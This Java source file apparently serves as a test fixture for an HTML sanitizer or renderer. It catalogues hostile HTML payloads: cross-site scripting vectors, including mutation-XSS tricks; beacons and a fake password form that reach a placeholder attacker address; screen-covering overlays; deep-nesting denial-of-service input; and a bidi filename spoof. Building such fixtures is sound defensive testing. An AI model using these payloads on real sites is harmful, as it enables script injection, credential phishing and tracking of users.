package io.svara.console;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Letters that want more than to be read. {@code RUN} is a script that shows itself in every way it
 * can: a dialog, a mark on the page around it, a request. {@code AT} is the stranger's address.
 */
final class HostileLetters {
  private static final String RUN = "try{top.hacked=1}catch(e){};new Image().src=`AT/ran`;alert(1)";

  /** Those whose script runs when nothing stands in its way. */
  static final Map<String, String> SCRIPTS = scripts();

  /** Those that fetch something when nothing stands in their way. */
  static final Map<String, String> FETCHES = fetches();

  /** Those that want to be clicked, to cover, or to be too much. */
  static final Map<String, String> OTHERS = others();

  private HostileLetters() {}

  private static Map<String, String> scripts() {
    Map<String, String> letters = new LinkedHashMap<>();
    letters.put("script", "<script>RUN</script>");
    letters.put("script from elsewhere", "<script src=\"AT/ran.js\"></script>");
    letters.put("module", "<script type=module>RUN</script>");
    letters.put("script in a table", "<table><tr><td><script>RUN</script></td></tr></table>");
    letters.put("script in svg", "<svg><script>RUN</script></svg>");
    letters.put("onload of svg", "<svg onload=\"RUN\"></svg>");
    letters.put("onerror of a picture", "<img src=x: onerror=\"RUN\">");
    letters.put("slashes for spaces", "<img/src=\"x:\"/onerror=\"RUN\">");
    letters.put("onload of the body", "<body onload=\"RUN\">");
    letters.put(
        "onfocus", "<input autofocus onfocus=\"RUN\"><p tabindex=1 autofocus onfocus=\"RUN\">");
    letters.put("ontoggle", "<details open ontoggle=\"RUN\"><summary>x</summary></details>");
    letters.put(
        "onstart of an animation",
        "<style>@keyframes x{}</style><p style=\"animation:x 1ms\" onanimationstart=\"RUN\">x</p>");
    letters.put("onerror of video", "<video><source src=x: onerror=\"RUN\"></video>");
    letters.put(
        "script in srcdoc",
        "<iframe srcdoc=\"<script>parent.RUN2</script>\"></iframe>".replace("parent.RUN2", "RUN"));
    letters.put("script address of a frame", "<iframe src=\"javascript:RUN\"></iframe>");
    letters.put(
        "math and style",
        "<math><mtext><table><mglyph><style><!--</style>"
            + "<img title=\"--&gt;&lt;img src=x: onerror=RUN&gt;\"><img src=x: onerror=\"RUN\">");
    letters.put(
        "noscript",
        "<noscript><p title=\"</noscript><img src=x: onerror=RUN>\"></noscript>"
            + "<img src=x: onerror=\"RUN\">");
    letters.put("broken tags", "<<img src=x: onerror=\"RUN\"//><p <b></p>");
    letters.put("entities", "<img src=x: onerror=\"&#x74;op.hacked=1;RUN\">");
    letters.put(
        "object",
        "<object data=\"data:text/html,<script>RUN</script>\"></object>"
            + "<object data=\"x:\" onerror=\"RUN\"></object>");
    letters.replaceAll((name, letter) -> letter.replace("RUN", RUN));
    return letters;
  }

  private static Map<String, String> fetches() {
    Map<String, String> letters = new LinkedHashMap<>();
    letters.put("tracking pixel", "<img src=\"AT/pixel.gif\" width=1 height=1>");
    letters.put("responsive picture", "<img srcset=\"AT/set.png 1x\">");
    letters.put("picture element", "<picture><source srcset=\"AT/source.png\"><img></picture>");
    letters.put("old background", "<table background=\"AT/table.png\"><tr><td>x</table>");
    letters.put("background of the body", "<body background=\"AT/body.png\">x");
    letters.put("style attribute", "<p style=\"background:url(AT/style.png)\">x</p>");
    letters.put("style element", "<style>body{background:url(AT/sheet.png)}</style><p>x");
    letters.put("import", "<style>@import 'AT/import.css';</style><p>x");
    letters.put("style sheet", "<link rel=stylesheet href=\"AT/link.css\">");
    letters.put(
        "font",
        "<style>@font-face{font-family:f;src:url(AT/font.woff2)}" + "p{font-family:f}</style><p>x");
    letters.put("list marker", "<ul style=\"list-style-image:url(AT/list.png)\"><li>x</ul>");
    letters.put("cursor and content", "<style>p::before{content:url(AT/content.png)}</style><p>x");
    letters.put("svg picture", "<svg><image href=\"AT/image.svg\" width=9 height=9 /></svg>");
    letters.put("video poster", "<video poster=\"AT/poster.png\" width=9 height=9></video>");
    letters.put("frame", "<iframe src=\"AT/frame.html\"></iframe>");
    letters.put("object", "<object data=\"AT/object.png\" type=image/png></object>");
    letters.put("embed", "<embed src=\"AT/embed.png\" type=image/png>");
    letters.put("input picture", "<input type=image src=\"AT/input.png\">");
    letters.put("base", "<base href=\"AT/base/\"><img src=pixel.gif>");
    return letters;
  }

  private static Map<String, String> others() {
    Map<String, String> letters = new LinkedHashMap<>();
    letters.put("refresh", "<meta http-equiv=refresh content=\"0;url=AT/refresh\"><p>x");
    letters.put(
        "form",
        "<form action=\"AT/form\" method=post><input name=password type=password>"
            + "<button id=go>Log in</button></form>");
    letters.put("link to the top", "<a id=go target=_top href=\"AT/top\">x</a>");
    letters.put("script in a link", "<a id=go href=\"javascript:top.hacked=1\">x</a>");
    letters.put(
        "cover",
        "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\">"
            + "<a style=\"position:absolute;top:-9999px\" href=\"AT/cover\">Your session has ended</a>"
            + "</div><p style=\"margin-top:-2000px;width:99999px;font-size:9999px\">x");
    letters.put("ten thousand levels", "<div>".repeat(10_000) + "x");
    letters.put("ten thousand links", "<a href=\"AT/many\">x</a> ".repeat(10_000));
    letters.put("one long word", "x".repeat(200_000));
    letters.put(
        "other direction",
        "<p style=\"unicode-bidi:bidi-override;direction:rtl\">"
            + "<bdo dir=rtl>fdp.exe</bdo> \u202Eevil\u202C");
    return letters;
  }
}
